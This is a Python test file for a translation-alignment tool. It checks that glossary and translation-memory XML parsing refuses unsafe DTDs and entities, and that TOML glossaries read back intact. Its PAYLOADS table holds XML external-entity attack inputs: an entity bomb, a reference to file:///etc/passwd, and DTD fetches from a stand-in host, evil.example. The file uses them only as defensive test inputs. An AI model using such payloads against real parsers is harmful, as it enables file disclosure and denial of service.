"""Everything mtalign parses is parsed safely; everything it writes reads back.

XML (TBX glossaries, TMX memories) goes through defusedxml: DTDs, entity declarations and
external references are refused whatever the encoding and wherever the declaration sits.
Glossaries written by mtalign (``glossary mine``, ``glossary cldr``) round-trip through the
TOML reader whatever their notes, names and comments hold.
"""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mtalign.errors import ConfigError, InputError
from mtalign.glossary.formats import dump_toml, load_glossary, parse_tbx, parse_toml
from mtalign.glossary.model import ENTITY_TYPES, TermOptions, make_glossary
from mtalign.io.tmx import parse_tmx, read_tmx
from mtalign.types import Term

FAST = settings(max_examples=40, derandomize=True, deadline=None)

#: Declarations an attacker puts before the root element (name -> DOCTYPE text).
PAYLOADS = {
    "entity bomb": '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>',
    "external entity": '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "parameter entity": '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>',
    "external DTD": '<!DOCTYPE martif SYSTEM "http://evil.example/tbx.dtd">',
    "public DTD": '<!DOCTYPE martif PUBLIC "-//X//DTD//EN" "http://evil.example/x.dtd">',
}
ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"]
TBX_BODY = (
    '<martif type="TBX" xml:lang="en"><text><body>'
    '<termEntry id="t1"><langSet xml:lang="en"><tig><term>Ankara</term></tig></langSet>'
    '<langSet xml:lang="tr"><tig><term>Ankara</term></tig></langSet></termEntry>'
    "</body></text></martif>"
)


def xml_bytes(doctype: str, body: str, encoding: str, padding: int, comment: bool) -> bytes:
    """A document whose DOCTYPE comes after ``padding`` characters of whitespace or comment."""
    declared = {"utf-8-sig": "UTF-8", "utf-16-le": "UTF-16", "utf-16-be": "UTF-16"}.get(
        encoding, encoding.upper()
    )
    pad = f"<!--{'x' * padding}-->" if comment else " " * padding
    text = f'<?xml version="1.0" encoding="{declared}"?>\n{pad}\n{doctype}\n{body}'
    data = text.encode(encoding)
    if encoding in ("utf-16-le", "utf-16-be"):
        bom = "\ufeff".encode(encoding)
        data = bom + data
    return data


attacks = st.tuples(
    st.sampled_from(sorted(PAYLOADS)),
    st.sampled_from(ENCODINGS),
    st.sampled_from([0, 10, 199_990, 250_000]),
    st.booleans(),
)


@FAST
@given(attack=attacks)
def test_tbx_refuses_dtds_and_entities_in_any_encoding_and_position(attack):
    kind, encoding, padding, comment = attack
    data = xml_bytes(PAYLOADS[kind], TBX_BODY, encoding, padding, comment)
    with pytest.raises(ConfigError, match=r"g\.tbx:\d+: .*not accepted \(unsafe XML\)"):
        parse_tbx(data, "g.tbx")


@FAST
@given(st.sampled_from(ENCODINGS), st.sampled_from([0, 250_000]), st.booleans())
def test_safe_tbx_reads_in_any_encoding(encoding, padding, comment):
    g = parse_tbx(xml_bytes("", TBX_BODY, encoding, padding, comment), "g.tbx")
    assert [t.targets for t in g.terms] == [{"tr": "Ankara"}]


TMX_BODY = (
    '<tmx version="1.4"><header srclang="en"/><body>'
    '<tu><tuv xml:lang="en"><seg>A</seg></tuv><tuv xml:lang="tr"><seg>B</seg></tuv></tu>'
    "</body></tmx>"
)


@FAST
@given(attack=attacks)
def test_tmx_refuses_entities_and_internal_dtds(attack, tmp_path_factory):
    kind, encoding, padding, comment = attack
    doctype = PAYLOADS[kind].replace("martif", "tmx")
    data = xml_bytes(doctype, TMX_BODY, encoding, padding, comment)
    path = tmp_path_factory.mktemp("tmx") / "m.tmx"
    path.write_bytes(data)
    if "DTD" in kind:
        # TMX tools write <!DOCTYPE tmx SYSTEM "tmx14.dtd">: accepted, never fetched.
        _, units = read_tmx(path)
        assert [dict(u.tuvs) for u in units] == [{"en": "A", "tr": "B"}]
        return
    with pytest.raises(InputError, match=r"m\.tmx:\d+: .*not accepted \(unsafe XML\)"):
        read_tmx(path)


def test_tmx_with_an_internal_subset_is_refused():
    with pytest.raises(InputError, match="DOCTYPE"):
        parse_tmx("<!DOCTYPE tmx [<!ELEMENT tmx ANY>]>\n" + TMX_BODY, "m.tmx")


# --------------------------------------------------------------------------- TOML glossaries

#: Text a note or a name may hold: anything but lone surrogates (no TOML file can).
any_text = st.text(st.characters(exclude_categories=("Cs",)), max_size=20)
# A form shows something: one with only spaces, controls or format characters is refused.
form = any_text.map(lambda s: unicodedata.normalize("NFC", s.strip())).filter(
    lambda s: any(not unicodedata.category(c).startswith(("Z", "C")) for c in s)
)
lang = st.sampled_from(["tr", "ru", "ar", "de", "zh-Hant", "pt-BR"])


@st.composite
def glossaries(draw):
    n = draw(st.integers(1, 4))
    terms, options = [], {}
    sources = draw(st.lists(form, min_size=n, max_size=n, unique=True))
    for i, src in enumerate(sources):
        targets = draw(st.dictionaries(lang, form, max_size=3))
        extra = {
            k: tuple(draw(st.lists(form, min_size=1, max_size=2)))
            for k in targets
            if draw(st.booleans())
        }
        term = Term(
            id=draw(any_text.filter(bool)) + f"#{i}",
            source=(src,),
            targets=targets,
            extra_forms=extra,
            type=draw(st.none() | st.sampled_from(ENTITY_TYPES)),
            keep=draw(st.booleans()),
            case_sensitive=draw(st.booleans()),
        )
        terms.append(term)
        options[term.id] = TermOptions(
            tr_attached=draw(st.booleans()),
            ar_article=draw(st.booleans()),
            note=draw(any_text),
        )
    return make_glossary(terms, options, name=draw(any_text), source_lang="en")


@FAST
@given(glossaries(), st.dictionaries(any_text, any_text, max_size=3), any_text)
def test_written_glossaries_read_back(g, comments, description):
    comments = {t.id: c for t, c in zip(g.terms, comments.values(), strict=False)}
    text = dump_toml(g, header={"description": description}, comments=comments)
    back = parse_toml(text, "g.toml")
    assert back.terms == g.terms
    for t in g.terms:
        a, b = g.opts(t.id), back.opts(t.id)
        assert (a.tr_attached, a.ar_article, a.note) == (b.tr_attached, b.ar_article, b.note)
    assert back.name == (g.name or "g")


def test_cldr_glossary_reads_back(tmp_path):
    from mtalign.glossary.cldr import cldr_glossary

    g = cldr_glossary(["tr", "ru", "ar"])
    path = tmp_path / "countries.toml"
    path.write_text(dump_toml(g, header={"description": "CLDR"}), encoding="utf-8")
    assert load_glossary(path).terms == g.terms


def test_mined_glossary_with_odd_notes_reads_back(tmp_path):
    g = make_glossary(
        [Term("a", ("Ankara",), {"tr": "Ankara"})],
        {"a": TermOptions(note='seen 3 times\nin "quotes" \\ and \x1b[2J, \x00 \u2028 end')},
    )
    comments = {"a": "line one\nline\x07two\x0bthree\x85four"}
    path = tmp_path / "draft.toml"
    path.write_text(dump_toml(g, comments=comments), encoding="utf-8")
    assert load_glossary(path).opts("a").note == g.opts("a").note
    with pytest.raises(ConfigError):
        parse_toml('[[term]]\nsource = ["A"]\nnote = "a\nb"\n', "bad.toml")
